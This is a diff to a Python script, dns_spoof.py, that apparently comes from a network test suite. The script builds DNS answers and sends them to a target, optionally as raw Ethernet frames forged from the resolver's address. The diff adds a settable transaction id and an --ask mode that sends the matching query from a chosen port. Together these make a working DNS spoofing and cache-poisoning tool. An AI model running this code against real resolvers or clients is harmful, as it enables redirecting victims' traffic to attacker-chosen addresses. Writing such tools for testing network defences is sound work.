@@ -1,13 +1,19 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-2.0
-"""Send one DNS answer "NAME A ADDR" from UDP port 53 to TARGET:PORT.
+"""Send one DNS answer "NAME A ADDR" from UDP port 53 to TARGET:PORT,
+with transaction id ID (default 0x4242).
 
 Without SOURCE: from this host, as an off-path host would to plant a
 mapping. With SOURCE IFACE MAC: forged, from SOURCE (the resolver's
 address), as an Ethernet frame out of IFACE to MAC (the gateway), as a
 client behind the gateway would to answer its own query.
 
-usage: dns_spoof.py TARGET PORT NAME ADDR [SOURCE IFACE MAC]"""
+With --ask SERVER: instead, send the query such an answer answers (NAME,
+type A, transaction id ID) from this host's UDP port PORT to SERVER:53,
+and do not wait for an answer.
+
+usage: dns_spoof.py [--id ID] TARGET PORT NAME ADDR [SOURCE IFACE MAC]
+       dns_spoof.py [--id ID] --ask SERVER PORT NAME"""
 import socket
 import struct
 import sys
@@ -15,12 +21,16 @@ import sys
 from raw_tcp import csum
 
 
-def answer(name, addr):
-    msg = struct.pack("!HHHHHH", 0x4242, 0x8180, 1, 1, 0, 0)
+def question(qid, flags, name, answers):
+    msg = struct.pack("!HHHHHH", qid, flags, 1, answers, 0, 0)
     for label in name.split("."):
         msg += bytes([len(label)]) + label.encode()
-    msg += b"\0" + struct.pack("!HH", 1, 1)
-    return msg + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(addr)
+    return msg + b"\0" + struct.pack("!HH", 1, 1)
+
+
+def answer(qid, name, addr):
+    return (question(qid, 0x8180, name, 1) + b"\xc0\x0c" +
+            struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(addr))
 
 
 def forged_frame(src, dst, dport, payload, iface, mac):
@@ -37,10 +47,22 @@ def forged_frame(src, dst, dport, payload, iface, mac):
 
 
 def main():
-    target, port, name, addr = sys.argv[1:5]
-    msg = answer(name, addr)
-    if len(sys.argv) > 5:
-        src, iface, mac = sys.argv[5:8]
+    args = sys.argv[1:]
+    qid = 0x4242
+    if args[0] == "--id":
+        qid = int(args[1], 0)
+        args = args[2:]
+    if args[0] == "--ask":
+        server, port, name = args[1:4]
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            s.bind(("0.0.0.0", int(port)))
+            s.sendto(question(qid, 0x0100, name, 0), (server, 53))
+        return
+    target, port, name, addr = args[0:4]
+    msg = answer(qid, name, addr)
+    if len(args) > 4:
+        src, iface, mac = args[4:7]
         with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
             s.bind((iface, 0))
             s.send(forged_frame(src, target, int(port), msg, iface, mac))
